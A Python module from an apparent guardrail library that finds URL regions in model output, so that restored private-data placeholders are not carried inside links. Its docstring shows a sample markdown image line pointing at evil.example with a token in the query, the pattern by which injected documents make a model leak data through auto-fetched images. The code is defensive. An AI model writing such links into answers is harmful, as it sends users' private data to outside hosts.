"""Where a text is part of a link: a value restored there would leave with the next click or picture.

A screen that renders an answer fetches its pictures unasked, so a document that
makes the model write `![](https://evil.example/?q=<PERSON_…>)` reads what stands
in the token's place (docs/adr/0151). A region errs on the long side: it begins
with a scheme, `//host` or `www.`, and ends where no renderer would read on.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from guardrail.tokens import mentions

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["Region", "carried", "regions"]

# Browsers take "http:host", "https:\\host" and "//host" for a link to another host.
_START: Final = re.compile(
    r"(?<![A-Za-z0-9])(?:(?:https?|ftps?|wss?):|[a-z][a-z0-9+.-]{1,30}:[\\/]|www\.)"
    r"|(?<![\w:/\\])[\\/]{2}(?=[^\s/\\<])",
    re.IGNORECASE,
)
_MAY_START: Final = re.compile(r"[:/\\]|www\.|URL_", re.IGNORECASE)
_ATTRIBUTE: Final = re.compile(r"=\s*([\"'])\s*\Z")
_SPACE: Final = re.compile(r"\s")
_ENDINGS: Final = {
    '"': re.compile(r"[\"\n]"),
    "'": re.compile(r"['\n]"),
    "`": re.compile(r"[`\n]"),
    "<": re.compile(r"\n"),  # a token's own bracket ends no link
}
_ROUND: Final = re.compile(r"\\.|[()\n]", re.DOTALL)
_DEEPEST: Final = 32  # round brackets that are counted over the cut of a stream
_REACH: Final = 40  # characters before a link in which its attribute begins


@dataclass(frozen=True, slots=True)
class Region:
    """A link in a text; `opener` is what stands before it and says where it ends, `depth` counts "("."""

    start: int
    end: int
    opener: str
    depth: int = 0

    def holds(self, position: int) -> bool:
        """Tell whether something that begins at `position` is a part of the link, and not all of it."""
        return self.start < position < self.end


def regions(text: str) -> list[Region]:
    """Return the links of a text, in order and disjoint."""
    if not _MAY_START.search(text):
        return []
    found: list[Region] = []
    at = 0
    for start in _starts(text):
        if start >= at:
            found.append(_region(text, start))
            at = found[-1].end
    return found


def carried(text: str) -> str:
    """Return what keeps the link at the end of `text` open when only the end is remembered; "" for none."""
    found = regions(text)
    if not found or found[-1].end < len(text):
        return ""
    return f"{found[-1].opener}http:{'(' * min(found[-1].depth, _DEEPEST)}"


def _starts(text: str) -> Iterator[int]:
    """Yield where links begin: what looks like one, and tokens that stand for one."""
    starts = [match.start() for match in _START.finditer(text)]
    # Such a token is all of its link; what follows it is a part.
    starts += [mention.start for mention in mentions(text) if mention.inner.startswith("URL_")]
    return iter(sorted(starts))


def _region(text: str, start: int) -> Region:
    attribute = _ATTRIBUTE.search(text, max(0, start - _REACH), start)
    before = text[start - 1 : start]
    if attribute:
        end = text.find(attribute[1], start)
        return Region(start, len(text) if end < 0 else end, f"={attribute[1]}")
    if before == "(":
        return _round(text, start)
    ending = _ENDINGS.get(before)
    closed = (ending or _SPACE).search(text, start)
    return Region(start, closed.start() if closed else len(text), before if ending else "")


def _round(text: str, start: int) -> Region:
    """Return the link between round brackets, which may hold others in pairs (CommonMark 6.3)."""
    depth = 0
    for mark in _ROUND.finditer(text, start):
        if mark[0] == "\n" or (mark[0] == ")" and depth == 0):
            return Region(start, mark.start(), "(")
        depth += {"(": 1, ")": -1}.get(mark[0], 0)
    return Region(start, len(text), "(", depth)
